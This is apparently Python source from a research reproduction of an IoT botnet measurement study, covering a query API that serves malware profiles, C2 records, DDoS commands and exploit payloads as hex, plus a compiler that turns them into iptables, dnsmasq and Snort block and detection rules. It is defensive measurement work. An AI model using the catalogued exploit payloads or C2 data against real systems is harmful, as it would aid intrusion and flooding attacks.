            return _error(400, "day and limit must be integers")
        profiles = self.service.datasets().profiles
        if day is not None:
            profiles = [p for p in profiles if p.day == day]
        total = len(profiles)
        if limit is not None:
            profiles = profiles[:max(0, limit)]
        return 200, _JSON, encode({
            "total": total,
            "returned": len(profiles),
            "profiles": [
                {
                    "sha256": p.sha256, "day": p.day,
                    "family_label": p.family_label,
                    "c2_endpoint": p.c2_endpoint,
                    "exploits": len(p.exploits),
                    "attacks": len(p.attacks),
                    "quarantined": p.quarantined,
                }
                for p in profiles
            ],
        })

    def _profile(self, sha256):
        profile = self.service.datasets().profile_by_sha256(sha256)
        if profile is None:
            return _error(404, f"no profile for sha256 {sha256}")
        return 200, _JSON, encode(profile_doc(profile))

    def _c2(self):
        datasets = self.service.datasets()
        return 200, _JSON, encode({
            "total": len(datasets.d_c2s),
            "c2s": [c2_doc(r) for r in datasets.d_c2s.values()],
        })

    def _lifespans(self):
        datasets = self.service.datasets()
        return 200, _JSON, encode({
            "ip": cdf_doc(lifetime_cdf(datasets, dns=False)),
            "dns": cdf_doc(lifetime_cdf(datasets, dns=True)),
        })

    def _ddos_summary(self):
        datasets = self.service.datasets()
        return 200, _JSON, encode({
            "total_commands": len(datasets.d_ddos),
            "protocol_distribution": protocol_distribution(datasets),
            "attacks_per_family": attacks_per_family(datasets),
            "type_by_family": [
                {"family": family, "attack_type": kind, "count": count}
                for (family, kind), count
                in sorted(type_by_family(datasets).items())
            ],
            "commands": [ddos_doc(r) for r in datasets.d_ddos],
        })

    def _exploit_summary(self):
        datasets = self.service.datasets()
        return 200, _JSON, encode({
            "exploited_samples": datasets.exploit_sample_count(),
            "vulnerabilities": [exploit_usage_doc(u)
                                for u in table4(datasets)],
        })

    def _rules(self, query):
        technology = query.get("technology")
        if technology in (None, "", "all"):
            technology = None
        elif technology not in RULE_TECHNOLOGIES:
            return _error(
                400, f"technology must be one of "
                     f"{', '.join(RULE_TECHNOLOGIES)} or all")
        bundle = compile_rules(self.service.datasets())
        text = bundle.render(technology)
        return 200, _TEXT, (text + "\n" if text else "").encode()

    def _metrics(self):
        text = to_prometheus(self.service.telemetry.metrics)
        return 200, _TEXT, text.encode()

    # -- POST routes -------------------------------------------------------

    def _ingest(self, query, body):
        days = query.get("days")
        if days is None and body:
            try:
                days = json.loads(body.decode() or "null")
            except ValueError:
                return _error(400, "body must be JSON")
            if isinstance(days, dict):
                days = days.get("days")
        if days in (None, ""):
            days = 1
        if days != "all":
            try:
                days = int(days)
            except (TypeError, ValueError):
                return _error(400, 'days must be an integer or "all"')
            if days < 1:
                return _error(400, "days must be >= 1")
        if self.service.pipeline_done:
            return _error(
                409, "all study days already ingested; POST /finalize")
        result = self.service.ingest_days(
            None if days == "all" else days)
        return 200, _JSON, encode(result)

    def _finalize(self):
        if not self.service.pipeline_done:
            return _error(
                409, f"{self.service.remaining_days} study days still "
                     "pending; ingest them first")
        return 200, _JSON, encode(self.service.finalize())
