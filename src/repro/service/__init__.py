"""The study service: incremental ingestion daemon + stdlib query API.

The batch entry point (``run_study``) computes everything and exits;
this package keeps the study *alive*.  A :class:`StudyService` wraps a
day-granular :class:`~repro.core.study.DayRunner`, ingests feed days
one at a time (explicitly via ``POST /ingest/day``, or on a simulated
clock), checkpoints after every day through
:class:`~repro.service.state.CheckpointStore`, and serves the study's
artifacts — per-binary profiles, C2 lifespan CDFs, DDoS/exploit
summaries, the firewall rule feed, progress, and Prometheus metrics —
over a ``http.server``-based JSON API.  Everything is stdlib-only.

Module map::

    state.py          checkpoint dataclass + fingerprint-keyed store
    server.py         StudyService facade, HTTP server, lifecycle
    handlers.py       route table and request handling
    serialization.py  dataclass -> JSON documents
    client.py         urllib-based client used by ``repro query``
"""

from .client import ServiceError, StudyClient
from .server import StudyService, build_server, serve_forever
from .state import CheckpointStore, StudyCheckpoint

__all__ = [
    "CheckpointStore",
    "ServiceError",
    "StudyCheckpoint",
    "StudyClient",
    "StudyService",
    "build_server",
    "serve_forever",
]
