"""Dataclass -> JSON documents for the query API.

The in-memory artifacts (profiles, C2 records, CDFs, Table rows) are
dataclasses full of sets, bytes, and nested objects; the API speaks
plain JSON.  These builders are the only place that translation lives —
handlers compose them, tests assert against them.  Every document is
built from primitives only (str/int/float/bool/list/dict), so
``json.dumps`` never needs a custom encoder.
"""

from __future__ import annotations

import json

from ..analysis.stats import CdfPoint
from ..core.datasets import C2Record, Datasets, DdosRecord
from ..core.profiles import BinaryNetworkProfile
from ..netsim.addresses import int_to_ip

__all__ = [
    "attack_doc",
    "c2_doc",
    "cdf_doc",
    "ddos_doc",
    "encode",
    "exploit_usage_doc",
    "profile_doc",
    "summary_doc",
]


def encode(document) -> bytes:
    """Canonical UTF-8 JSON bytes for a response body."""
    return (json.dumps(document, indent=2, sort_keys=False) + "\n").encode()


def attack_doc(observation) -> dict:
    """One :class:`~repro.core.profiles.AttackObservation`."""
    command = observation.command
    return {
        "method": command.method,
        "target_ip": int_to_ip(command.target_ip),
        "target_port": command.target_port,
        "duration_seconds": command.duration,
        "family_profile": observation.family_profile,
        "when": observation.when,
        "verified": observation.verified,
        "via_heuristic": observation.via_heuristic,
    }


def profile_doc(profile: BinaryNetworkProfile) -> dict:
    """Full per-binary profile — the paper's central artifact, as JSON."""
    return {
        "sha256": profile.sha256,
        "published": profile.published,
        "day": profile.day,
        "source": profile.source,
        "family_label": profile.family_label,
        "label_source": profile.label_source,
        "activated": profile.activated,
        "is_p2p": profile.is_p2p,
        "c2": None if not profile.has_c2 else {
            "endpoint": profile.c2_endpoint,
            "port": profile.c2_port,
            "is_dns": profile.c2_is_dns,
            "live_on_day0": profile.c2_live_on_day0,
            "vt_flagged_day0": profile.vt_flagged_day0,
        },
        "exploits": [
            {
                "vuln_key": e.vuln_key,
                "loader": e.loader,
                "downloader": e.downloader,
                "port": e.port,
                "payload_hex": e.payload.hex(),
            }
            for e in profile.exploits
        ],
        "scan_ports": list(profile.scan_ports),
        "attacks": [attack_doc(a) for a in profile.attacks],
        "quarantined": profile.quarantined,
        "quarantine_reason": profile.quarantine_reason,
    }


def c2_doc(record: C2Record) -> dict:
    """One D-C2s record with its cross-validation state."""
    return {
        "endpoint": record.endpoint,
        "port": record.port,
        "is_dns": record.is_dns,
        "family_labels": sorted(record.family_labels),
        "distinct_samples": record.distinct_samples,
        "first_day": record.first_day,
        "last_day": record.last_day,
        "live_observations": record.live_observations,
        "verified": record.verified,
        "vt_malicious_day0": record.vt_malicious_day0,
        "vt_malicious_recheck": record.vt_malicious_recheck,
        "protocol_verified": record.protocol_verified,
        "issued_attack": record.issued_attack,
        "observed_lifespan_days": record.observed_lifespan_days,
    }


def ddos_doc(record: DdosRecord) -> dict:
    """One D-DDOS record."""
    command = record.command
    return {
        "c2_endpoint": record.c2_endpoint,
        "family": record.family,
        "method": command.method,
        "target_ip": int_to_ip(command.target_ip),
        "target_port": command.target_port,
        "duration_seconds": command.duration,
        "target_protocol": record.target_protocol,
        "when": record.when,
        "distinct_samples": len(record.sample_hashes),
        "verified": record.verified,
        "via_heuristic": record.via_heuristic,
    }


def cdf_doc(points: list[CdfPoint]) -> list[dict]:
    """An empirical CDF as ``[{"value": ..., "fraction": ...}, ...]``."""
    return [{"value": p.value, "fraction": p.fraction} for p in points]


def exploit_usage_doc(usage) -> dict:
    """One measured Table 4 row (:class:`VulnUsage`)."""
    vuln = usage.vulnerability
    return {
        "vuln_key": vuln.key,
        "vuln_id": vuln.vuln_id,
        "cve": vuln.cve,
        "exploit_id": vuln.exploit_id,
        "published": vuln.published,
        "target_device": vuln.target_device,
        "port": vuln.port,
        "sample_count": usage.sample_count,
        "age_years_at_study": usage.age_years_at_study,
    }


def summary_doc(datasets: Datasets) -> dict:
    """The dataset-size rows of Table 1."""
    return dict(datasets.summary())
