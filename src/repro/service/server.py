"""The study daemon: service facade, HTTP adapter, and lifecycle.

:class:`StudyService` is the single-writer owner of one
:class:`~repro.core.study.DayRunner`.  Every mutation (ingest, finalize)
and every dataset read goes through one re-entrant lock, so the
threading HTTP server can fan requests out without ever observing a
half-ingested day; after each completed day the service checkpoints
through :class:`~repro.service.state.CheckpointStore`, so a SIGTERM —
or a power cut — between any two days loses nothing.

:func:`build_server` binds a ``ThreadingHTTPServer`` whose handler is a
thin adapter over :class:`~repro.service.handlers.ServiceApi`;
:func:`serve_forever` adds the daemon lifecycle: an optional simulated
ingest clock, SIGTERM/SIGINT-triggered graceful shutdown, and a final
checkpoint flush on the way out.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qsl, urlsplit

from ..core.cache import dataset_digest, study_fingerprint
from ..core.pipeline import PipelineConfig
from ..core.study import DayRunner
from ..obs import NULL_TELEMETRY
from ..world import generate_world
from .handlers import ServiceApi
from .state import CheckpointStore, StudyCheckpoint

__all__ = ["StudyService", "build_server", "serve_forever"]


class StudyService:
    """One live study: a locked DayRunner plus checkpoint persistence.

    Construction resumes automatically: if ``checkpoint_dir`` holds a
    valid checkpoint for this study's fingerprint, its state is adopted
    and ingestion continues from the first unfinished day (``resumed``
    is True).  A checkpoint whose shape no longer matches (different
    shard count, different study length) is discarded with a warning
    event and the study restarts from day 0 — never a crash, never a
    silently wrong result.
    """

    def __init__(self, seed: int, scale, config: PipelineConfig | None = None,
                 shards: int = 1, telemetry=None,
                 checkpoint_dir: str | None = None):
        self.seed = seed
        self.scale = scale
        self.config = config or PipelineConfig()
        self.shards = shards
        self.telemetry = telemetry if telemetry is not None else NULL_TELEMETRY
        self.lock = threading.RLock()
        self.fingerprint = study_fingerprint(seed, scale, self.config)
        self.store = (CheckpointStore(checkpoint_dir)
                      if checkpoint_dir else None)
        self.resumed = False
        self._days_ingested = self.telemetry.metrics.counter(
            "service_days_ingested_total",
            "feed days executed by this service process")
        self._checkpoints = self.telemetry.metrics.counter(
            "service_checkpoints_total", "checkpoints written")
        world = generate_world(seed=seed, scale=scale)
        self.runner = DayRunner(world=world, config=self.config,
                                telemetry=self.telemetry, shards=shards)
        self._maybe_resume()
        self.telemetry.events.emit(
            "service.start", seed=seed, shards=shards,
            resumed=self.resumed, next_day=self.runner.next_day,
            total_days=self.runner.total_days)

    def _maybe_resume(self) -> None:
        if self.store is None:
            return
        checkpoint = self.store.load(self.fingerprint)
        if checkpoint is None:
            return
        try:
            self.runner.restore_state(checkpoint.state)
        except ValueError as exc:
            # same study, incompatible execution shape (e.g. the shard
            # count changed) — restart from day 0 rather than guess
            self.store.rejected += 1
            self.telemetry.events.emit(
                "service.checkpoint_discarded", level="warning",
                reason=str(exc))
            return
        self.resumed = True

    # -- progress ----------------------------------------------------------

    @property
    def pipeline_done(self) -> bool:
        return self.runner.pipeline_done

    @property
    def finalized(self) -> bool:
        return self.runner.finalized

    @property
    def remaining_days(self) -> int:
        return self.runner.total_days - self.runner.next_day

    def status(self) -> dict:
        with self.lock:
            runner = self.runner
            return {
                "seed": self.seed,
                "sample_fraction": self.scale.sample_fraction,
                "shards": self.shards,
                "fingerprint": self.fingerprint,
                "next_day": runner.next_day,
                "total_days": runner.total_days,
                "pipeline_done": runner.pipeline_done,
                "finalized": runner.finalized,
                "resumed": self.resumed,
                "checkpointing": self.store is not None,
                "datasets": runner.datasets.summary(),
            }

    def datasets(self):
        with self.lock:
            return self.runner.datasets

    def digest(self) -> str:
        with self.lock:
            return dataset_digest(self.runner.datasets)

    def etag(self) -> str:
        """Validator for the read-mostly routes (RFC 7232 entity-tag).

        The served artifacts are a pure function of (study fingerprint,
        days ingested, finalized-or-not): the fingerprint pins (seed,
        scale, faults, config, code version), ``next_day`` advances on
        every ingest, and finalization mutates the datasets one last
        time without touching ``next_day`` — so the tag must include
        all three.
        """
        with self.lock:
            return (f'"{self.fingerprint[:16]}-{self.runner.next_day}-'
                    f'{int(self.runner.finalized)}"')

    # -- mutation ----------------------------------------------------------

    def ingest_days(self, days: int | None = 1) -> dict:
        """Execute up to ``days`` more feed days (None = all remaining),
        checkpointing after each; finalizes when the last day lands."""
        ingested = 0
        last = None
        with self.lock:
            while not self.runner.pipeline_done and (
                    days is None or ingested < days):
                last = self.runner.run_next_day()
                ingested += 1
                self._days_ingested.inc()
                self.telemetry.events.emit(
                    "service.day_ingested", level="debug", **last)
                self._checkpoint()
            if self.runner.pipeline_done and not self.runner.finalized:
                self._finalize_locked()
            return {
                "ingested": ingested,
                "last_day": None if last is None else last["day"],
                "next_day": self.runner.next_day,
                "total_days": self.runner.total_days,
                "pipeline_done": self.runner.pipeline_done,
                "finalized": self.runner.finalized,
            }

    def finalize(self) -> dict:
        """TI re-query + shard merge + probing campaign (idempotent)."""
        with self.lock:
            already = self.runner.finalized
            self._finalize_locked()
            return {
                "finalized": True,
                "already_finalized": already,
                "dataset_digest": dataset_digest(self.runner.datasets),
            }

    def _finalize_locked(self) -> None:
        if not self.runner.finalized:
            self.runner.finalize()
            self._checkpoint()
            self.telemetry.events.emit("service.finalized")

    # -- persistence -------------------------------------------------------

    def _checkpoint(self) -> None:
        if self.store is None:
            return
        runner = self.runner
        self.store.save(StudyCheckpoint(
            fingerprint=self.fingerprint, shards=self.shards,
            next_day=runner.next_day, total_days=runner.total_days,
            finalized=runner.finalized, state=runner.state_snapshot()))
        self._checkpoints.inc()

    def flush(self) -> None:
        """Write a checkpoint now (shutdown path)."""
        with self.lock:
            self._checkpoint()


# -- HTTP adapter ------------------------------------------------------------


class _RequestHandler(BaseHTTPRequestHandler):
    """Socket plumbing around :meth:`ServiceApi.handle` — nothing more."""

    api: ServiceApi = None  # set by build_server on the subclass
    protocol_version = "HTTP/1.1"

    def _respond(self) -> None:
        split = urlsplit(self.path)
        query = dict(parse_qsl(split.query))
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        status, content_type, payload, extra_headers = self.api.handle(
            self.command, split.path, query, body, dict(self.headers))
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(payload)))
        for name, value in extra_headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(payload)

    do_GET = _respond
    do_POST = _respond

    def log_message(self, format, *args):  # quiet: events go to telemetry
        pass


def build_server(service: StudyService, host: str = "127.0.0.1",
                 port: int = 0) -> ThreadingHTTPServer:
    """A bound (not yet serving) HTTP server over ``service``.

    ``port=0`` binds an ephemeral port; read the real one from
    ``server.server_address[1]``.
    """
    api = ServiceApi(service)
    handler = type("BoundRequestHandler", (_RequestHandler,), {"api": api})
    server = ThreadingHTTPServer((host, port), handler)
    server.daemon_threads = True
    return server


# -- daemon lifecycle --------------------------------------------------------


class _IngestClock(threading.Thread):
    """Simulated feed clock: one day per tick until the study finishes."""

    def __init__(self, service: StudyService, interval: float):
        super().__init__(name="ingest-clock", daemon=True)
        self.service = service
        self.interval = interval
        self.stop_event = threading.Event()

    def run(self) -> None:
        while not self.stop_event.wait(self.interval):
            if self.service.pipeline_done and self.service.finalized:
                return
            self.service.ingest_days(1)

    def stop(self) -> None:
        self.stop_event.set()


def serve_forever(server: ThreadingHTTPServer, service: StudyService,
                  auto_ingest: float | None = None,
                  ready=None) -> None:
    """Run the daemon until SIGTERM/SIGINT, then shut down gracefully.

    Graceful means: stop the ingest clock, let in-flight requests
    finish, and flush a final checkpoint — so ``kill -TERM`` followed by
    a restart resumes from the last *completed* day with nothing lost.
    Signal handlers are installed only when running on the main thread
    (tests drive shutdown by calling ``server.shutdown()`` directly);
    ``ready`` is called once they are, so a caller can announce the
    address only when a SIGTERM is already survivable.
    """
    clock = None
    if auto_ingest is not None:
        clock = _IngestClock(service, auto_ingest)
        clock.start()

    def _shutdown(signum, frame):
        service.telemetry.events.emit("service.signal", signum=signum)
        # shutdown() blocks until serve_forever returns; do it off-thread
        threading.Thread(target=server.shutdown, daemon=True).start()

    if threading.current_thread() is threading.main_thread():
        import signal

        signal.signal(signal.SIGTERM, _shutdown)
        signal.signal(signal.SIGINT, _shutdown)
    if ready is not None:
        ready()
    try:
        server.serve_forever()
    finally:
        if clock is not None:
            clock.stop()
            clock.join(timeout=5.0)
        server.server_close()
        service.flush()
        service.telemetry.events.emit("service.stopped",
                                      next_day=service.runner.next_day)
