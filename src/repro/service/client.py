"""Stdlib client for the query API, used by ``repro query`` and tests.

A thin, dependency-free wrapper over :mod:`urllib.request`: every
method maps to exactly one route, JSON bodies are decoded, text routes
(``/rules``, ``/metrics``) come back as strings, and any non-2xx
response raises :class:`ServiceError` carrying the status code and the
server's decoded error body.
"""

from __future__ import annotations

import json
import urllib.error
import urllib.parse
import urllib.request

__all__ = ["ServiceError", "StudyClient"]


class ServiceError(RuntimeError):
    """A non-2xx API response (or a transport failure)."""

    def __init__(self, status: int, message: str):
        super().__init__(f"HTTP {status}: {message}" if status
                         else message)
        self.status = status
        self.message = message


class StudyClient:
    """Client bound to one service base URL (e.g. ``http://127.0.0.1:8321``)."""

    def __init__(self, base_url: str, timeout: float = 30.0):
        self.base_url = base_url.rstrip("/")
        self.timeout = timeout

    # -- transport ---------------------------------------------------------

    def _request(self, method: str, path: str,
                 params: dict | None = None) -> tuple[str, bytes]:
        url = self.base_url + path
        if params:
            clean = {k: v for k, v in params.items() if v is not None}
            if clean:
                url += "?" + urllib.parse.urlencode(clean)
        request = urllib.request.Request(url, method=method,
                                         data=b"" if method == "POST"
                                         else None)
        try:
            with urllib.request.urlopen(request,
                                        timeout=self.timeout) as response:
                return (response.headers.get("Content-Type", ""),
                        response.read())
        except urllib.error.HTTPError as exc:
            body = exc.read()
            try:
                message = json.loads(body.decode()).get("error", "")
            except (ValueError, AttributeError):
                message = body.decode(errors="replace")
            raise ServiceError(exc.code, message or exc.reason) from None
        except urllib.error.URLError as exc:
            raise ServiceError(0, f"cannot reach {url}: {exc.reason}") \
                from None

    def conditional_get(self, path: str, etag: str | None = None,
                        ) -> tuple[int, str | None, bytes]:
        """GET with ETag revalidation: ``(status, etag, body)``.

        Pass the etag from a previous call; a ``304`` comes back with an
        empty body, meaning the cached copy is still byte-fresh.
        """
        request = urllib.request.Request(self.base_url + path)
        if etag:
            request.add_header("If-None-Match", etag)
        try:
            with urllib.request.urlopen(request,
                                        timeout=self.timeout) as response:
                return (response.status, response.headers.get("ETag"),
                        response.read())
        except urllib.error.HTTPError as exc:
            if exc.code == 304:
                return 304, exc.headers.get("ETag"), b""
            raise ServiceError(exc.code, exc.reason) from None
        except urllib.error.URLError as exc:
            raise ServiceError(
                0, f"cannot reach {self.base_url + path}: {exc.reason}") \
                from None

    def _json(self, method: str, path: str, params: dict | None = None):
        _, body = self._request(method, path, params)
        return json.loads(body.decode())

    def _text(self, path: str, params: dict | None = None) -> str:
        _, body = self._request("GET", path, params)
        return body.decode()

    # -- routes ------------------------------------------------------------

    def healthz(self) -> dict:
        return self._json("GET", "/healthz")

    def status(self) -> dict:
        return self._json("GET", "/status")

    def digest(self) -> dict:
        return self._json("GET", "/digest")

    def profiles(self, day: int | None = None,
                 limit: int | None = None) -> dict:
        return self._json("GET", "/profiles", {"day": day, "limit": limit})

    def profile(self, sha256: str) -> dict:
        return self._json("GET", f"/profiles/{sha256}")

    def c2s(self) -> dict:
        return self._json("GET", "/c2")

    def lifespans(self) -> dict:
        return self._json("GET", "/c2/lifespans")

    def ddos_summary(self) -> dict:
        return self._json("GET", "/summary/ddos")

    def exploits_summary(self) -> dict:
        return self._json("GET", "/summary/exploits")

    def rules(self, technology: str | None = None) -> str:
        return self._text("/rules", {"technology": technology})

    def metrics(self) -> str:
        return self._text("/metrics")

    def ingest(self, days: int | str = 1) -> dict:
        return self._json("POST", "/ingest/day", {"days": days})

    def finalize(self) -> dict:
        return self._json("POST", "/finalize")
