"""Persistent study checkpoints for the ingestion daemon.

One checkpoint file per study, keyed by the same
:func:`~repro.core.cache.study_fingerprint` the study cache uses — so a
change to seed, scale, config, fault plan, or *code* changes the key and
an old checkpoint is simply never found, the exact invalidation model
that keeps the cache honest.  The file is rewritten atomically after
every ingested day (the entry framing and atomic-write helpers are
shared with :class:`~repro.core.cache.StudyCache`), so a killed daemon
always restarts from the last *completed* day: a checkpoint is either
the previous complete one or the new complete one, never a torn write.

The checkpoint body is :meth:`DayRunner.state_snapshot
<repro.core.study.DayRunner.state_snapshot>` — per-shard dedup sets,
feed cursors, and datasets, plus the probing results once finalized.
World content is never stored; a resumed runner regenerates it from
``(seed, scale)``.
"""

from __future__ import annotations

import dataclasses
import os

from ..core.cache import pack_entry, unpack_entry, write_atomic

__all__ = ["StudyCheckpoint", "CheckpointStore"]


@dataclasses.dataclass
class StudyCheckpoint:
    """One study's resumable progress.

    The header fields mirror the snapshot so progress can be reported
    without interpreting ``state``; ``state`` itself is the
    ``DayRunner.state_snapshot()`` dict handed back to
    ``DayRunner.restore_state()`` on resume.
    """

    fingerprint: str
    shards: int
    next_day: int
    total_days: int
    finalized: bool
    state: dict


class CheckpointStore:
    """On-disk checkpoint store keyed by study fingerprint.

    Reads are paranoid the same way :class:`StudyCache` reads are: any
    anomaly (missing file, corruption, version skew, fingerprint
    mismatch) loads as ``None`` and the daemon starts the study from
    day 0.  ``loads`` / ``rejected`` count outcomes for telemetry.
    """

    def __init__(self, root: str):
        self.root = str(root)
        self.loads = 0
        self.rejected = 0

    def path_for(self, fingerprint: str) -> str:
        return os.path.join(self.root, f"{fingerprint}.ckpt")

    def load(self, fingerprint: str) -> StudyCheckpoint | None:
        """The latest checkpoint for ``fingerprint``, or None on doubt."""
        try:
            with open(self.path_for(fingerprint), "rb") as fh:
                blob = fh.read()
        except OSError:
            return None
        entry = unpack_entry(blob, StudyCheckpoint)
        if entry is None or entry.fingerprint != fingerprint:
            self.rejected += 1
            return None
        self.loads += 1
        return entry

    def save(self, checkpoint: StudyCheckpoint) -> str:
        """Atomically persist ``checkpoint``; returns the entry path."""
        path = self.path_for(checkpoint.fingerprint)
        write_atomic(path, pack_entry(checkpoint))
        return path

    def clear(self, fingerprint: str) -> None:
        """Drop the checkpoint for ``fingerprint`` (missing is fine)."""
        try:
            os.unlink(self.path_for(fingerprint))
        except OSError:
            pass
