"""Turning profiles into firewall and IDS rules (the paper's impact goal).

Section 1 frames MalNet's output as actionable defense: "(a) secure the
network, through firewall rules, (b) harden the security of the device,
and (c) provide intelligence of attacks as they launch", and section 6
lists "profile the collected information into easy to use rules for
different firewall technologies" as the deployment step.  This module is
that step: it compiles a :class:`~repro.core.datasets.Datasets` into

* **iptables** drop rules for every verified C2 address and downloader;
* **dnsmasq**-style blackhole entries for DNS-named C2s;
* **Snort** signatures for each exploited vulnerability (keyed on the
  exploit's unique URI/marker) and for the fingerprintable DDoS payloads
  (VSE probe, NFO marker).

Rules carry provenance comments (which dataset row produced them) so a
network operator can audit each entry back to a binary.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..botnet.ddos import NFO_PAYLOAD, VSE_PROBE
from ..botnet.exploits import BY_KEY
from .datasets import Datasets

_SID_BASE = 7_100_000


@dataclass(frozen=True)
class FirewallRule:
    """One generated rule with provenance."""

    technology: str   # "iptables" | "dnsmasq" | "snort"
    text: str
    reason: str
    #: the blocked host/domain this rule targets, "" for payload
    #: signatures.  Metadata, not rendered: matching on it instead of
    #: substring-searching ``text`` keeps "1.2.3.4" from matching a rule
    #: for "11.2.3.45".
    endpoint: str = ""

    def render(self) -> str:
        return f"{self.text}  # {self.reason}"


@dataclass
class RuleBundle:
    """All rules compiled from one dataset snapshot."""

    rules: list[FirewallRule] = field(default_factory=list)

    def add(self, rule: FirewallRule) -> None:
        if rule not in self.rules:
            self.rules.append(rule)

    def by_technology(self, technology: str) -> list[FirewallRule]:
        return [r for r in self.rules if r.technology == technology]

    def render(self, technology: str | None = None) -> str:
        chosen = (self.rules if technology is None
                  else self.by_technology(technology))
        return "\n".join(rule.render() for rule in chosen)

    def __len__(self) -> int:
        return len(self.rules)


def _c2_rules(datasets: Datasets, bundle: RuleBundle,
              include_unverified: bool) -> None:
    for record in sorted(datasets.d_c2s.values(), key=lambda r: r.endpoint):
        if not (record.verified or include_unverified):
            continue
        families = ",".join(sorted(record.family_labels)) or "unknown"
        reason = (f"C2 of {record.distinct_samples} binaries "
                  f"({families}); first seen day {record.first_day}")
        if record.is_dns:
            bundle.add(FirewallRule(
                "dnsmasq", f"address=/{record.endpoint}/0.0.0.0", reason,
                endpoint=record.endpoint))
        else:
            bundle.add(FirewallRule(
                "iptables",
                f"-A OUTPUT -d {record.endpoint} -j DROP", reason,
                endpoint=record.endpoint))
            bundle.add(FirewallRule(
                "iptables",
                f"-A INPUT -s {record.endpoint} -j DROP", reason,
                endpoint=record.endpoint))


def _downloader_rules(datasets: Datasets, bundle: RuleBundle) -> None:
    seen: set[str] = set()
    for record in datasets.d_exploits:
        if not record.downloader:
            continue
        host = record.downloader.partition(":")[0]
        if host in seen or host in datasets.d_c2s:
            continue  # C2-colocated downloaders already covered above
        seen.add(host)
        bundle.add(FirewallRule(
            "iptables", f"-A OUTPUT -d {host} -j DROP",
            f"malware downloader referenced by exploit "
            f"({record.vuln_key}, loader {record.loader})",
            endpoint=host,
        ))


def _exploit_signatures(datasets: Datasets, bundle: RuleBundle) -> None:
    sid = _SID_BASE
    seen: set[str] = set()
    for record in datasets.d_exploits:
        if record.vuln_key in seen:
            continue
        seen.add(record.vuln_key)
        vuln = BY_KEY[record.vuln_key]
        marker = vuln.marker.replace('"', '\\"')
        sid += 1
        bundle.add(FirewallRule(
            "snort",
            (f'alert tcp any any -> any {vuln.port} '
             f'(msg:"IoT exploit {vuln.key} ({vuln.target_device})"; '
             f'content:"{marker}"; sid:{sid}; rev:1;)'),
            f"exploited by {_samples_for(datasets, record.vuln_key)} binaries",
        ))


def _samples_for(datasets: Datasets, vuln_key: str) -> int:
    return len({r.sha256 for r in datasets.d_exploits if r.vuln_key == vuln_key})


def _ddos_signatures(datasets: Datasets, bundle: RuleBundle) -> None:
    observed_types = {record.attack_type for record in datasets.d_ddos}
    if "VSE" in observed_types:
        probe = VSE_PROBE[4:24].decode("ascii")
        bundle.add(FirewallRule(
            "snort",
            (f'alert udp any any -> any any (msg:"VSE amplification probe"; '
             f'content:"{probe}"; threshold:type both,track by_src,'
             f'count 100,seconds 1; sid:{_SID_BASE + 900}; rev:1;)'),
            "VSE DDoS observed from live C2 commands",
        ))
    if "NFO" in observed_types:
        bundle.add(FirewallRule(
            "snort",
            (f'alert udp any any -> any 238 (msg:"NFO custom flood"; '
             f'content:"{NFO_PAYLOAD[:5].decode()}"; '
             f'sid:{_SID_BASE + 901}; rev:1;)'),
            "NFO DDoS observed from live C2 commands",
        ))
    if "BLACKNURSE" in observed_types:
        bundle.add(FirewallRule(
            "snort",
            (f'alert icmp any any -> any any (msg:"BLACKNURSE flood"; '
             f'itype:3; icode:3; threshold:type both,track by_src,'
             f'count 100,seconds 1; sid:{_SID_BASE + 902}; rev:1;)'),
            "BLACKNURSE DDoS observed from live C2 commands",
        ))


def compile_rules(datasets: Datasets, include_unverified: bool = False) -> RuleBundle:
    """Compile the full rule bundle from a study's datasets."""
    bundle = RuleBundle()
    _c2_rules(datasets, bundle, include_unverified)
    _downloader_rules(datasets, bundle)
    _exploit_signatures(datasets, bundle)
    _ddos_signatures(datasets, bundle)
    return bundle


def coverage_report(datasets: Datasets, bundle: RuleBundle) -> dict[str, float]:
    """How much of the observed badness the bundle addresses.

    * ``c2_coverage`` — fraction of verified C2s with a block rule;
    * ``binary_coverage`` — fraction of C2-bearing binaries whose C2 is
      blocked (the §3.3 argument: one binary's C2 protects against all
      binaries sharing it).
    """
    blocked_hosts = {rule.endpoint for rule in bundle.rules if rule.endpoint}
    verified = [r for r in datasets.d_c2s.values() if r.verified]
    c2_cov = (sum(1 for r in verified if r.endpoint in blocked_hosts)
              / len(verified)) if verified else 0.0
    covered_binaries: set[str] = set()
    total_binaries: set[str] = set()
    for record in datasets.d_c2s.values():
        total_binaries |= record.sample_hashes
        if record.endpoint in blocked_hosts:
            covered_binaries |= record.sample_hashes
    binary_cov = (len(covered_binaries) / len(total_binaries)
                  if total_binaries else 0.0)
    return {"c2_coverage": c2_cov, "binary_coverage": binary_cov}
