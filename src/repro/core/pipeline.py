"""The MalNet pipeline: daily collection → dynamic analysis → profiling.

This is the paper's methodology (section 2) end to end:

1. every day, pull the new binaries from VirusTotal and MalwareBazaar;
2. keep MIPS 32B ELF files corroborated by >= 5 AV engines;
3. label the family with crowd YARA rules, falling back to AVClass2;
4. activate each binary in the CnCHunter sandbox (closed world), detect
   the referred C2 endpoint, and extract exploits with the handshaker;
5. check whether the C2 is live *today* by weaponizing the binary against
   its own C2, and query the VT threat-intel feeds;
6. for live C2s of the attack families, listen in restricted mode for two
   hours and record DDoS commands plus the generated attack traffic;
7. re-query threat intel months later (May 7, 2022) for Table 3.

The output is :class:`~repro.core.datasets.Datasets`.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from ..analysis.ddos_detect import (
    profile_stream,
    rate_bursts,
    target_in_command_bytes,
    verify_flooding,
)
from ..binary.elf import ARCH_MACHINES, is_supported_elf
from ..botnet.exploits import classify_exploit, extract_downloader, extract_loader
from ..botnet.families import ATTACK_FAMILIES, dga_domains
from ..determinism import shard_of, stable_seed
from ..feeds.avclass import label_sample
from ..feeds.virustotal import DETECTION_THRESHOLD
from ..netsim.addresses import ip_to_int, is_ip_literal
from ..netsim.capture import columnar_stats
from ..netsim.faults import FaultInjector, FaultPlan, FeedUnavailable, \
    SandboxCrash
from ..netsim.packet import encode_memo_stats
from ..obs import NULL_TELEMETRY, Telemetry
from ..netsim.internet import SECONDS_PER_DAY, STUDY_EPOCH
from ..sandbox.qemu import EmulationError, MipsEmulator
from ..sandbox.sandbox import CncHunterSandbox, SANDBOX_IP
